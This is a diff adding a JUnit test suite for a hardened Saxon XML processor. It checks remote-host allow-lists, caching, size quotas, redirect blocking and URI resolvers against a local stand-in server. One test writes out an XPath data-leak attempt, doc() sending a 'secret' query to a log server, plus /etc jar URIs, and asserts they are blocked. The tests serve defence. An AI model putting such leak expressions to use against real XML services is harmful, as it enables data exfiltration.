@@ -0,0 +1,256 @@
+package de.wwu.scdh.saxon.harden;
+
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.concurrent.atomic.AtomicInteger;
+
+import com.sun.net.httpserver.HttpExchange;
+import com.sun.net.httpserver.HttpServer;
+
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.condition.DisabledOnOs;
+import org.junit.jupiter.api.condition.OS;
+import org.junit.jupiter.api.io.TempDir;
+import static org.junit.jupiter.api.Assertions.*;
+
+import net.sf.saxon.Configuration;
+import net.sf.saxon.s9api.Processor;
+import net.sf.saxon.s9api.SaxonApiException;
+import net.sf.saxon.s9api.XPathCompiler;
+import net.sf.saxon.s9api.XdmItem;
+
+
+/**
+ * Tests with a local stand-in server for remote authority files and
+ * for a log server like <code>test/logservers.py</code>.
+ */
+public class RemoteFetcherTest {
+
+    private static final String DOC = "<b>true</b>";
+
+    private static final String ETAG = "\"v1\"";
+
+    @TempDir
+    Path tmp;
+
+    private HttpServer server;
+
+    private String base;
+
+    private final AtomicInteger requests = new AtomicInteger();
+
+    private final AtomicInteger notModified = new AtomicInteger();
+
+    private final AtomicInteger logged = new AtomicInteger();
+
+    private volatile String userAgent = null;
+
+    private RemotePolicy previousPolicy;
+
+    private FilesystemFilter previousFilter;
+
+    @BeforeEach
+    public void setup() throws IOException {
+	server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+	server.createContext("/doc.xml", exchange -> {
+		requests.incrementAndGet();
+		userAgent = exchange.getRequestHeaders().getFirst("User-Agent");
+		if (ETAG.equals(exchange.getRequestHeaders().getFirst("If-None-Match"))) {
+		    notModified.incrementAndGet();
+		    exchange.sendResponseHeaders(304, -1);
+		    exchange.close();
+		} else {
+		    exchange.getResponseHeaders().set("ETag", ETAG);
+		    respond(exchange, 200, "application/xml", DOC.getBytes(StandardCharsets.UTF_8));
+		}
+	    });
+	server.createContext("/text.txt", exchange -> {
+		respond(exchange, 200, "text/plain; charset=ISO-8859-1", "\u00e4".getBytes(StandardCharsets.ISO_8859_1));
+	    });
+	server.createContext("/redirect", exchange -> {
+		exchange.getResponseHeaders().set("Location", "http://localhost:" + port() + "/doc.xml");
+		respond(exchange, 302, "text/plain", new byte[0]);
+	    });
+	server.createContext("/missing", exchange -> {
+		respond(exchange, 404, "text/plain", "not found".getBytes(StandardCharsets.UTF_8));
+	    });
+	server.createContext("/large", exchange -> {
+		respond(exchange, 200, "text/plain", new byte[100000]);
+	    });
+	server.createContext("/chunked", exchange -> {
+		// no Content-Length
+		exchange.getResponseHeaders().set("Content-Type", "text/plain");
+		exchange.sendResponseHeaders(200, 0);
+		try (OutputStream out = exchange.getResponseBody()) {
+		    for (int i = 0; i < 100; i++) {
+			out.write(new byte[1000]);
+		    }
+		} catch (IOException e) {
+		    // the client gave up
+		}
+	    });
+	server.createContext("/log", exchange -> {
+		logged.incrementAndGet();
+		respond(exchange, 200, "application/xml", DOC.getBytes(StandardCharsets.UTF_8));
+	    });
+	server.start();
+	base = "http://127.0.0.1:" + port() + "/";
+	previousPolicy = RemotePolicy.getShared();
+	previousFilter = FilesystemFilterRegistry.getFilter();
+    }
+
+    @AfterEach
+    public void teardown() {
+	RemotePolicy.setShared(previousPolicy);
+	FilesystemFilterRegistry.setFilter(previousFilter);
+	server.stop(0);
+    }
+
+    private int port() {
+	return server.getAddress().getPort();
+    }
+
+    private static void respond(HttpExchange exchange, int status, String contentType, byte[] body)
+	throws IOException {
+	exchange.getResponseHeaders().set("Content-Type", contentType);
+	exchange.sendResponseHeaders(status, body.length == 0 ? -1 : body.length);
+	try (OutputStream out = exchange.getResponseBody()) {
+	    out.write(body);
+	}
+    }
+
+    private RemotePolicy allowServer() throws FilesystemFilterException {
+	String hosts[] = { "127.0.0.1:" + port() };
+	return new RemotePolicy(hosts);
+    }
+
+    @Test
+    public void policy() throws FilesystemFilterException {
+	String hosts[] = { "https://example.org", "*.example.net:*", "localhost:8080", "[::1]:8000", " " };
+	RemotePolicy policy = new RemotePolicy(hosts);
+	assertArrayEquals(new String[] { "https://example.org", "*.example.net:*", "localhost:8080", "[::1]:8000" },
+			  policy.getAllowedHosts());
+	assertTrue(policy.check(URI.create("https://example.org/a.xml")));
+	assertTrue(policy.check(URI.create("https://EXAMPLE.org:443/a.xml")));
+	assertFalse(policy.check(URI.create("http://example.org/a.xml")));
+	assertFalse(policy.check(URI.create("https://example.org:8443/a.xml")));
+	assertTrue(policy.check(URI.create("http://data.example.net:8000/")));
+	assertFalse(policy.check(URI.create("http://example.net/")));
+	assertTrue(policy.check(URI.create("http://localhost:8080/")));
+	assertFalse(policy.check(URI.create("http://localhost/")));
+	assertFalse(policy.check(URI.create("http://localhost:8000/log?plain=secret")));
+	assertTrue(policy.check(URI.create("http://[::1]:8000/")));
+	assertFalse(policy.check(URI.create("ftp://example.org/")));
+	assertFalse(policy.check(URI.create("jar:file:/etc/x.jar!/a.xml")));
+	String invalid[][] = { { "ftp://example.org" }, { "example.org:http" }, { "ex*ample.org" }, { "[::1" } };
+	for (String[] entry : invalid) {
+	    assertThrows(FilesystemFilterException.class, () -> new RemotePolicy(entry));
+	}
+    }
+
+    @Test
+    public void filter() throws FilesystemFilterException {
+	String allowed[] = { tmp.toString() };
+	RemotePolicy.setShared(null);
+	FilesystemFilter open = new FilesystemFilter(allowed);
+	assertNull(open.getRemotePolicy());
+	assertTrue(open.check("http://localhost:8000/log", base));
+	RemotePolicy.setShared(allowServer());
+	FilesystemFilter restricted = new FilesystemFilter(allowed);
+	assertTrue(restricted.check("doc.xml", base));
+	assertFalse(restricted.check("http://localhost:8000/log", base));
+	// entries of local archives are decided on the archive
+	assertTrue(restricted.check("jar:" + tmp.toFile().toURI() + "a.jar!/a.xml", base));
+	assertFalse(restricted.check("jar:file:/etc/a.jar!/a.xml", base));
+	assertFalse(restricted.check("jar:" + base + "a.jar!/a.xml", base));
+	assertTrue(restricted.check(tmp.resolve("a.xml").toFile().toURI()));
+    }
+
+    @Test
+    public void conditionalGet() throws IOException, FilesystemFilterException {
+	RemoteFetcher fetcher = new RemoteFetcher(tmp.resolve("cache"), 2, 5000);
+	RemoteFetcher.Response first = fetcher.fetch(URI.create(base + "doc.xml"), allowServer());
+	assertFalse(first.isFromCache());
+	assertEquals("application/xml", first.getContentType());
+	RemoteFetcher.Response second = fetcher.fetch(URI.create(base + "doc.xml"), allowServer());
+	assertTrue(second.isFromCache());
+	assertEquals(DOC, new String(readAll(second), StandardCharsets.UTF_8));
+	assertEquals(2, requests.get());
+	assertEquals(1, notModified.get());
+	// without a cache
+	RemoteFetcher uncached = new RemoteFetcher(null, 2, 5000);
+	assertFalse(uncached.fetch(URI.create(base + "doc.xml"), allowServer()).isFromCache());
+	assertEquals(1, notModified.get());
+	assertThrows(IOException.class, () -> uncached.fetch(URI.create(base + "missing"), allowServer()));
+    }
+
+    @Test
+    public void maxLength() throws IOException, FilesystemFilterException {
+	RemoteFetcher fetcher = new RemoteFetcher(tmp.resolve("cache"), 2, 5000);
+	assertEquals(100000, fetcher.fetch(URI.create(base + "large"), allowServer(), 100000).getLength());
+	IOException e = assertThrows(IOException.class,
+				     () -> fetcher.fetch(URI.create(base + "large"), allowServer(), 1000));
+	assertTrue(e.getMessage().contains("quota exceeded"));
+	e = assertThrows(IOException.class,
+			 () -> fetcher.fetch(URI.create(base + "chunked"), allowServer(), 5000));
+	assertTrue(e.getMessage().contains("quota exceeded"));
+	// the stored body is checked, too
+	fetcher.fetch(URI.create(base + "doc.xml"), allowServer());
+	assertThrows(IOException.class, () -> fetcher.fetch(URI.create(base + "doc.xml"), allowServer(), 5));
+	assertEquals(1, notModified.get());
+    }
+
+    @Test
+    public void redirect() throws FilesystemFilterException {
+	RemoteFetcher fetcher = new RemoteFetcher(null, 2, 5000);
+	// redirected to localhost, which is not allowed
+	SecurityException e = assertThrows(SecurityException.class,
+					   () -> fetcher.fetch(URI.create(base + "redirect"), allowServer()));
+	assertTrue(e.getMessage().contains("localhost"));
+	assertEquals(0, requests.get());
+    }
+
+    @Test
+    @DisabledOnOs(OS.WINDOWS)
+    public void resolvers() throws SaxonApiException, FilesystemFilterException {
+	RemotePolicy.setShared(allowServer());
+	String allowed[] = { tmp.toString() };
+	FilesystemFilterRegistry.setFilter(new FilesystemFilter(allowed));
+	Configuration config = new Configuration();
+	HardenedURIResolver uriResolver = new HardenedURIResolver();
+	uriResolver.setConfiguration(config);
+	config.setURIResolver(uriResolver);
+	config.setUnparsedTextURIResolver(new HardenedUnparsedTextResolver());
+	XPathCompiler xpath = new Processor(config).newXPathCompiler();
+	XdmItem result = xpath.evaluateSingle("doc('" + base + "doc.xml')/b/text()", null);
+	assertEquals("true", result.getStringValue());
+	// fetched by the remote fetcher
+	assertEquals("hardening-saxon", userAgent);
+	result = xpath.evaluateSingle("unparsed-text('" + base + "text.txt')", null);
+	assertEquals("\u00e4", result.getStringValue());
+	// leaking to a log server on another host
+	String leak = "doc('http://localhost:" + port() + "/log?plain=secret')";
+	SaxonApiException e = assertThrows(SaxonApiException.class, () -> xpath.evaluateSingle(leak, null));
+	boolean denied = false;
+	for (Throwable cause = e; cause != null; cause = cause.getCause()) {
+	    denied |= cause.getMessage() != null && cause.getMessage().contains("path not allowed");
+	}
+	assertTrue(denied);
+	assertEquals(0, logged.get());
+    }
+
+    private static byte[] readAll(RemoteFetcher.Response response) throws IOException {
+	byte[] bytes = new byte[response.getLength()];
+	int n = response.getInputStream().read(bytes);
+	assertEquals(bytes.length, n);
+	return bytes;
+    }
+
+}